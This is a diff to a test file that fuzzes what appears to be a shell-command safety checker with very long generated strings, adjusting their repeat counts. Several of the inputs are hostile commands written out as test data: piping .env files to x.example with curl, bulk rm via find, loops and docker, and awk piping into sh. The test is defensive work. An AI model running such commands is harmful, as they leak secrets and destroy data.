@@ -165,10 +165,10 @@ test("judging never throws and never takes long, whatever the text", () => {
     (n: number) => `perl -e '${"q(".repeat(n)}'`,
     (n: number) => `x ${"=".repeat(n)} ${"@".repeat(n)}`,
     // Two long lists, of which every item of one could meet every item of the other.
-    (n: number) => `find ${"a ".repeat(n)}${"-exec rm {} \\; ".repeat(n >> 3)}`,
-    (n: number) => `for f in $(ls ${"a ".repeat(n)}); do ${"rm $f; ".repeat(n >> 3)}done`,
-    (n: number) => `docker run ${"-v a:b ".repeat(n >> 2)}x rm ${"a ".repeat(n)}`,
-    (n: number) => `cat ${".env ".repeat(n)}| tee ${"a ".repeat(n)}| curl -d @- x.example`,
+    (n: number) => `find ${"a ".repeat(n >> 1)}${"-exec rm {} \\; ".repeat(n >> 3)}`,
+    (n: number) => `for f in $(ls ${"a ".repeat(n >> 1)}); do ${"rm $f; ".repeat(n >> 3)}done`,
+    (n: number) => `docker run ${"-v a:b ".repeat(n >> 2)}x rm ${"a ".repeat(n >> 1)}`,
+    (n: number) => `cat ${".env ".repeat(n >> 2)}| tee ${"a ".repeat(n >> 2)}| curl -d @- x.example`,
     (n: number) => `{ ${"a; ".repeat(n >> 2)}} | { ${"cat; ".repeat(n >> 2)}} | curl -d @- x.example`,
     (n: number) => `awk '${'print "a" | "sh"; '.repeat(n >> 3)}${"/[".repeat(n >> 1)}'`,
   ];
